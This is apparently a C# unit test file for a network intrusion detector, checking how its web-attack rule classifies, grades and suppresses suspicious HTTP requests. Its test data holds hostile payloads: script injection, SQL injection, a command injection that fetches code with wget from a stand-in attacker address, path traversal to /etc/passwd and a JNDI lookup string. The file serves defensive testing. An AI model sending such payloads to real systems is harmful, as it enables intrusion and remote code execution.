using Wardkeeper.Hub.Findings;

namespace Wardkeeper.Hub.Tests.Detection;

/// <summary>Requests that carry code: which are told, how bad they are, and what looks like them.</summary>
public class WebAttackTests
{
    [Theory]
    [InlineData("/search?q=<script>alert(1)</script>", "script")]
    [InlineData("/item?id=1' UNION SELECT name,pass FROM users--", "sql")]
    [InlineData("/ping?host=8.8.8.8;wget http://203.0.113.9/x", "shell")]
    [InlineData("/view?file=../../../etc/passwd", "shell")]
    [InlineData("/view?file=..\\\\..\\\\..\\\\autoexec", "path")]
    [InlineData("/?x=${jndi:ldap://203.0.113.9/a}", "look-up")]
    public void A_request_with_code_is_told_by_its_kind(string uri, string kind)
    {
        Finding finding = Scene($$"""{"method":"GET","uri":"{{uri}}","status_code":404}""").Fires("web-attack");
        Assert.Contains(kind, finding.Facts.Single(fact => fact.Name == "attack-kinds").Observed.Split(", "));
        Assert.Equal(Severity.Low, finding.Severity);
    }

    [Fact]
    public void A_command_that_the_server_took_weighs_more()
    {
        Assert.Equal(Severity.High, Scene("""{"method":"GET","uri":"/cgi?x=;wget http://203.0.113.9/a","status_code":200}""").Fires("web-attack").Severity);
        Assert.Equal(Severity.Medium, Scene("""{"method":"GET","uri":"/?q=<script>alert(1)</script>","status_code":200}""").Fires("web-attack").Severity);
    }

    [Fact]
    public void A_program_that_tries_everything_is_one_finding() =>
        Assert.Equal(3, Scene("""{"method":"GET","uri":"/a","user_agent":"Mozilla/5.00 (Nikto/2.1.6)","status_code":404}""").Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/b","user_agent":"Mozilla/5.00 (Nikto/2.1.6)","status_code":404}""")
            .Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/c","user_agent":"Mozilla/5.00 (Nikto/2.1.6)"}""").Fires("web-attack").Count);

    [Theory]
    [InlineData("/studies?PatientName=O'Brien&limit=50")]
    [InlineData("/report.aspx?from=2026-01-01&to=2026-02-01&order=name desc")]
    [InlineData("/fhir/Observation?_include=Observation:patient&code=http://loinc.org|8480-6")]
    [InlineData("/static/../css/site.css")]
    public void What_pages_ask_for_is_silent(string uri) => Scene($$"""{"method":"GET","uri":"{{uri}}","status_code":200}""").IsSilent();

    [Fact]
    public void A_declared_scanner_may()
        => new Scene("declaredScanners: 10.0.1.5").Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/?q=<script>alert(1)</script>","status_code":200}""").IsSilent();

    [Theory]
    [InlineData("203.0.113.9:7080", 7080, "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0")]
    [InlineData("update.maker.example", 7080, "Mozilla/4.0 (compatible; MSIE 7.0)")]
    [InlineData("203.0.113.9", 80, "Mozilla/4.0 (compatible; MSIE 7.0)")]
    public void An_upload_that_only_in_part_looks_like_it_is_silent(string host, ushort port, string agent) =>
        new Scene().Says("http", "10.0.1.5", "203.0.113.9", port, $$"""{"method":"POST","host":"{{host}}","uri":"/x","user_agent":"{{agent}}","status_code":200}""").IsSilent();

    private static Scene Scene(string json) => new Scene().Says("http", "10.0.1.5", "10.0.9.9", 80, json);
}
